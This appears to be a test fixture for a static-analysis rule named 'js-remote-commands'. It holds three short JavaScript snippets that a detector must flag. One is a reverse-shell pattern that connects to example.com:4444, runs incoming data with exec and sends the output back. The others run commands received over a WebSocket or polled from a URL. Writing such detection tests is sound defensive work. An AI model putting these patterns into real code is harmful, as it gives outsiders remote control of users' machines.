const { exec, execSync, spawn } = require("child_process");
const socket = net.connect(4444, "example.com");
socket.on("data", (data) => {
  // ruleid: js-remote-commands
  exec(data.toString(), (error, out) => socket.write(out));
});
ws.onmessage = (event) => {
  const order = JSON.parse(event.data);
  // ruleid: js-remote-commands
  execSync(order.cmd);
};
async function poll() {
  const answer = await (await fetch("https://example.com/next")).json();
  // ruleid: js-remote-commands
  spawn(answer.command, answer.words, { shell: true });
}
